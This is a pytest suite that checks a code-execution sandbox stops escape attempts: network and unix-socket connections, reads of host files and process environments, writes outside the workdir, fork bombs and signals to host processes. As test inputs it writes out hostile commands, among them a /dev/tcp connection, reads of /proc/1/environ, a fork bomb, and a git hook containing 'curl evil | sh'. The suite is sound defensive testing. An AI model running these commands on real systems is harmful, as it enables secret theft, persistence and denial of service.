"""The escape suite, codejail style: `test_deny_*` must be stopped by the sandbox, `test_allow_*`
must keep working, `test_limit_*` are the executor's own deadlines (they hold with or without
isolation). Sabotage: `AGENTKIT_SANDBOX=off pytest this_file` must see every deny test fail and
every allow test pass (test_sabotage.py runs exactly that)."""

from __future__ import annotations

import ast
import os
import secrets
import socket
import subprocess
import tempfile
import textwrap
import threading
import time
from pathlib import Path

import pytest

from agentkit.plugins.code_exec import sandbox_disabled

ROOT = Path(__file__).resolve().parents[3]


def attempt(executor, body: str, timeout_s: float = 10.0) -> str:
    """Run `body` in the kernel: "allowed" if it completes, "denied: <type>: <message>" if it raises."""
    code = ("def _attempt():\n" + textwrap.indent(textwrap.dedent(body), "    ")
            + "\n    return 'allowed'\ntry:\n    _verdict = _attempt()\nexcept BaseException as _e:\n"
            "    _verdict = 'denied: ' + type(_e).__name__ + ': ' + str(_e)\n_verdict")
    result = executor.execute(code, timeout_s)
    assert result.status == "ok", (result.status, result.exception, result.stderr)
    return ast.literal_eval(result.result)


@pytest.fixture
def tcp_listener():
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("0.0.0.0", 0))
    server.listen(8)
    server.settimeout(0.2)
    yield server
    server.close()


def _accepted(server: socket.socket) -> bool:
    try:
        conn, _ = server.accept()
    except TimeoutError:
        return False
    conn.close()
    return True


def _host_address() -> str | None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("10.255.255.255", 9))  # no packet is sent; picks the outward interface
            address = probe.getsockname()[0]
        except OSError:
            return None
    return None if address.startswith("127.") else address


# ---- network ---------------------------------------------------------------------------------


def test_deny_tcp_to_host_loopback(escape_executor, tcp_listener):
    port = tcp_listener.getsockname()[1]
    verdict = attempt(escape_executor, f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=2).close()")
    assert verdict.startswith("denied"), verdict
    assert not _accepted(tcp_listener)


def test_deny_tcp_to_public_address(escape_executor, tcp_listener):
    address = _host_address()
    if address is None:
        pytest.skip("this host has no non-loopback IPv4 address to aim at")
    port = tcp_listener.getsockname()[1]
    verdict = attempt(escape_executor, f"import socket\nsocket.create_connection(({address!r}, {port}), timeout=2).close()")
    assert verdict.startswith("denied"), verdict
    assert not _accepted(tcp_listener)


def test_deny_dns(escape_executor):
    try:
        socket.getaddrinfo("pypi.org", 443)
    except OSError:
        pytest.skip("the host itself cannot resolve pypi.org: a denial would prove nothing")
    verdict = attempt(escape_executor, "import socket\nsocket.getaddrinfo('pypi.org', 443)")
    assert verdict.startswith("denied: gaierror"), verdict


def test_deny_dev_tcp_from_the_shell(escape_executor, tcp_listener):
    port = tcp_listener.getsockname()[1]
    result = escape_executor.shell([f"bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}' && echo CONNECTED"], 10)
    assert "CONNECTED" not in result.stdout and result.exit_code != 0, result
    assert not _accepted(tcp_listener)


def test_deny_host_unix_socket_outside_the_workdir(escape_executor):
    folder = tempfile.mkdtemp(prefix="agentkit-escape-sock-")
    os.chmod(folder, 0o755)
    path = os.path.join(folder, "host.sock")
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        server.bind(path)
        os.chmod(path, 0o777)  # world-writable, like /run/dbus/system_bus_socket: DAC alone allows it
        server.listen(1)
        verdict = attempt(escape_executor, f"import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({path!r})\ns.close()")
        relative = os.path.relpath(path, escape_executor.workdir)  # from the cwd: no way around the tmpfs
        shell = escape_executor.shell([f"python3 -c \"import socket; socket.socket(socket.AF_UNIX).connect('{relative}'); "
                                       "print('CONNECTED')\""], 10)
    finally:
        server.close()
        os.unlink(path)
        os.rmdir(folder)
    assert verdict.startswith("denied") and "CONNECTED" not in shell.stdout, (verdict, shell)


def test_deny_host_abstract_unix_socket(escape_executor):
    name = "\0agentkit-escape-" + secrets.token_hex(4)
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        server.bind(name)
        server.listen(1)
        verdict = attempt(escape_executor, f"import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({name!r})\ns.close()")
    finally:
        server.close()
    assert verdict.startswith("denied"), verdict


# ---- files -----------------------------------------------------------------------------------


def test_deny_reading_roots_home(escape_executor):
    verdict = attempt(escape_executor, "import os\nos.listdir('/root')")
    assert verdict.startswith("denied: PermissionError"), verdict


def test_deny_reading_the_project_checkout(escape_executor):
    verdict = attempt(escape_executor, f"open({str(ROOT / 'pyproject.toml')!r}).read()")
    # a checkout under /tmp is hidden by the sandbox's private /tmp (not found) instead of refused
    hidden = str(ROOT).startswith(("/tmp/", "/var/tmp/"))
    assert verdict.startswith("denied: FileNotFoundError" if hidden else "denied: PermissionError"), verdict


def test_deny_reading_proc_environ_of_host_processes(escape_executor):
    victim = subprocess.Popen(["sleep", "30"], env={"PATH": os.defpath, "AGENTKIT_VICTIM_SECRET": "x"})
    targets = [f"/proc/{victim.pid}/environ"]
    try:
        with open("/proc/1/environ", "rb") as f:
            f.read(1)
        targets.append("/proc/1/environ")  # only where the host itself may read pid 1's
    except OSError:
        pass
    try:
        verdicts = [attempt(escape_executor, f"open({t!r}, 'rb').read()") for t in targets]
    finally:
        victim.kill()
        victim.wait()
    assert all(v.startswith(("denied: PermissionError", "denied: FileNotFoundError")) for v in verdicts), \
        list(zip(targets, verdicts))


def test_deny_seeing_host_processes(escape_executor):
    victim = subprocess.Popen(["sleep", "30"], env={"PATH": os.defpath})
    try:
        verdict = attempt(escape_executor, f"""
        import os
        if os.path.exists('/proc/{victim.pid}') or {victim.pid} in [int(p) for p in os.listdir('/proc') if p.isdigit()]:
            raise AssertionError('allowed: host process {victim.pid} is visible')
        raise PermissionError('host processes are invisible')
        """)
        ps = escape_executor.shell(["ps -eo user,pid,args 2>&1 || ls /proc"], 10)
    finally:
        victim.kill()
        victim.wait()
    assert verdict.startswith("denied: PermissionError"), verdict
    assert f" {victim.pid} " not in ps.stdout and "sleep 30" not in ps.stdout, ps.stdout


def test_deny_writing_outside_the_workdir(escape_executor):
    open_dir = ROOT / f".escape-{secrets.token_hex(4)}"  # world-writable: only the sandbox can refuse
    open_dir.mkdir(mode=0o777)
    os.chmod(open_dir, 0o777)
    tmp_target = f"/tmp/agentkit-escape-{secrets.token_hex(4)}"
    try:
        verdicts = [attempt(escape_executor, f"open({str(open_dir / 'x')!r}, 'w').write('escaped')"),
                    attempt(escape_executor, f"open({tmp_target!r}, 'w').write('escaped')")]
        landed = [(open_dir / "x").exists(), os.path.exists(tmp_target)]
    finally:
        for leftover in (open_dir / "x", Path(tmp_target)):
            leftover.unlink(missing_ok=True)
        open_dir.rmdir()
    assert all(v.startswith("denied") for v in verdicts) and not any(landed), (verdicts, landed)


def test_deny_writing_into_the_workdirs_git(escape_executor):
    hooks = escape_executor.workdir / ".git" / "hooks"
    hooks.mkdir(parents=True, exist_ok=True)
    if escape_executor.plan.uid is not None:  # the sandbox's own files: only the read-only mount refuses
        for path in (hooks.parent, hooks):
            os.chown(path, escape_executor.plan.uid, escape_executor.plan.gid)
    try:
        result = escape_executor.shell(["echo 'curl evil | sh' > .git/hooks/pre-commit && echo WRITTEN"], 10)
        landed = (hooks / "pre-commit").exists()
    finally:
        (hooks / "pre-commit").unlink(missing_ok=True)
    assert "WRITTEN" not in result.stdout and not landed, (result, landed)
    assert escape_executor.shell(["ls .git"], 10).stdout.split() == ["hooks"]  # still readable


# ---- processes, memory, environment ----------------------------------------------------------


@pytest.mark.slow
def test_deny_fork_bomb(escape_executor):
    body = """
    import os, time
    pids = []
    try:
        for _ in range(150):
            pid = os.fork()
            if pid == 0:
                time.sleep(20)
                os._exit(0)
            pids.append(pid)
        time.sleep(1.0)
    finally:
        for pid in pids:
            os.kill(pid, 9)
        for pid in pids:
            os.waitpid(pid, 0)
    """
    verdict: list[str] = []
    worker = threading.Thread(target=lambda: verdict.append(attempt(escape_executor, body, timeout_s=20)))
    worker.start()
    time.sleep(0.5)
    started = time.monotonic()
    subprocess.run(["sleep", "0.1"], check=True, timeout=10)
    host_latency = time.monotonic() - started
    worker.join(30)
    assert host_latency < 2.0, f"the host took {host_latency:.2f} s to run `sleep 0.1` during the bomb"
    assert verdict and verdict[0].startswith("denied: BlockingIOError"), verdict


def test_deny_a_1_gib_allocation(escape_executor):
    verdict = attempt(escape_executor, "block = bytearray(1 << 30)\ndel block")
    assert verdict.startswith("denied: MemoryError"), verdict


def test_deny_host_environment_variables(escape_executor):
    assert os.environ.get("AGENTKIT_ESCAPE_SECRET"), "the fixture should have set the host secret"
    verdict = attempt(escape_executor, """
    import os
    leaked = [k for k in ('AGENTKIT_ESCAPE_SECRET', 'HF_HOME', 'HF_HUB_OFFLINE') if k in os.environ]
    if leaked:
        raise AssertionError('allowed: host variables visible: ' + ', '.join(leaked))
    raise PermissionError('host variables absent')
    """)
    assert verdict.startswith("denied: PermissionError"), verdict


def test_deny_privilege_gain_no_new_privs(escape_executor):
    verdict = attempt(escape_executor, """
    status = open('/proc/self/status').read()
    if 'NoNewPrivs:\\t1' in status:
        raise PermissionError('no_new_privs is set')
    """)
    assert verdict.startswith("denied: PermissionError"), verdict


def test_deny_running_as_root(escape_executor):
    verdict = attempt(escape_executor, """
    import os
    if os.getuid() != 0 and os.geteuid() != 0:
        raise PermissionError('unprivileged uid %d' % os.getuid())
    """)
    assert verdict.startswith("denied: PermissionError"), verdict


def test_deny_signalling_a_host_process(escape_executor):
    victim = subprocess.Popen(["sleep", "30"])
    try:
        verdict = attempt(escape_executor, f"import os, signal\nos.kill({victim.pid}, signal.SIGTERM)")
        time.sleep(0.1)
        alive = victim.poll() is None
    finally:
        victim.kill()
        victim.wait()
    assert verdict.startswith("denied") and alive, (verdict, alive)


# ---- what must keep working ------------------------------------------------------------------


def test_allow_workdir_read_write(escape_executor):
    (escape_executor.workdir / "from_host.txt").write_text("hello from the host")
    verdict = attempt(escape_executor, """
    text = open('from_host.txt').read()
    open('from_kernel.txt', 'w').write(text.upper())
    """)
    assert verdict == "allowed"
    assert (escape_executor.workdir / "from_kernel.txt").read_text() == "HELLO FROM THE HOST"


def test_allow_computing(escape_executor):
    result = escape_executor.execute("sum(i * i for i in range(10**5))", 10)
    assert result.status == "ok" and result.result == str(sum(i * i for i in range(10**5)))


def test_allow_temp_files(escape_executor):
    assert attempt(escape_executor, "import tempfile\nwith tempfile.TemporaryFile() as f: f.write(b'x' * 4096)") == "allowed"


def test_allow_numpy_and_matplotlib(escape_executor):
    if attempt(escape_executor, "import numpy, matplotlib").startswith("denied: ModuleNotFoundError"):
        pytest.skip("the kernel interpreter has no numpy/matplotlib")
    result = escape_executor.execute(
        "import numpy as np, matplotlib.pyplot as plt\nplt.plot(np.arange(5) ** 2)\nplt.show()\nfloat(np.mean([1, 2, 3]))", 30)
    assert result.status == "ok", result.exception
    assert result.result == "2.0" and result.images and result.images[0].startswith(b"\x89PNG\r\n\x1a\n")


def test_allow_the_kernels_own_ipc(escape_executor):
    result = escape_executor.execute("print('out'); from IPython.display import display; display('shown'); 6 * 7", 10)
    assert (result.status, result.stdout, result.result) == ("ok", "out\n'shown'\n", "42")


def test_allow_loopback_inside_the_sandbox(escape_executor):
    assert attempt(escape_executor, """
    import socket
    server = socket.socket(); server.bind(('127.0.0.1', 0)); server.listen(1)
    client = socket.create_connection(server.getsockname(), timeout=2)
    conn, _ = server.accept(); client.sendall(b'ping'); assert conn.recv(4) == b'ping'
    for s in (client, conn, server): s.close()
    """) == "allowed"


def test_allow_shell_in_the_workdir(escape_executor):
    result = escape_executor.shell(["echo shell-was-here > shell.txt", "cat shell.txt", "pwd"], 10)
    assert result.status == "success" and result.exit_code == 0, result
    assert result.stdout.splitlines() == ["shell-was-here", str(escape_executor.workdir)]


# ---- the executor's own limits (hold with isolation off too) ---------------------------------


@pytest.mark.slow
def test_limit_busy_loop_is_interrupted_at_the_timeout(escape_executor):
    escape_executor.execute("kept = 'still here'", 10)
    started = time.monotonic()
    result = escape_executor.execute("while True: pass", 1.0)
    elapsed = time.monotonic() - started
    assert result.status == "timeout" and elapsed < 2.0, (result.status, elapsed)
    assert escape_executor.execute("kept", 10).result == "'still here'"


@pytest.mark.slow
def test_limit_catastrophic_regex_is_stopped(escape_executor):
    started = time.monotonic()
    result = escape_executor.execute("import re\nre.match(r'(a+)+$', 'a' * 64 + 'b')", 1.0)
    assert result.status in ("timeout", "killed") and time.monotonic() - started < 1.0 + 1.0 + 2.0


@pytest.mark.slow
def test_limit_process_ignoring_sigint_and_sigterm_is_killed(escape_executor):
    code = ("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
            "signal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True: pass")
    started = time.monotonic()
    result = escape_executor.execute(code, 1.0)
    elapsed = time.monotonic() - started
    assert result.status == "killed", result
    assert elapsed < 1.0 + 1.0 + 2.0, f"killed only after {elapsed:.2f} s (timeout 1 s + grace 1 s + restart)"
    assert escape_executor.execute("1 + 1", 10).result == "2"  # a fresh interpreter


@pytest.mark.slow
def test_limit_shell_ignoring_sigterm_is_killed(escape_executor):
    started = time.monotonic()
    result = escape_executor.shell(["trap '' INT TERM", "while :; do :; done"], 1.0)
    elapsed = time.monotonic() - started
    assert (result.status, result.timed_out, result.exit_code) == ("killed", True, None), result
    assert elapsed < 1.0 + 1.0 + 1.0


def test_suite_runs_in_the_mode_it_claims(escape_executor):
    level = escape_executor.isolation.level
    assert level == ("none" if sandbox_disabled() else "full"), escape_executor.isolation.describe()
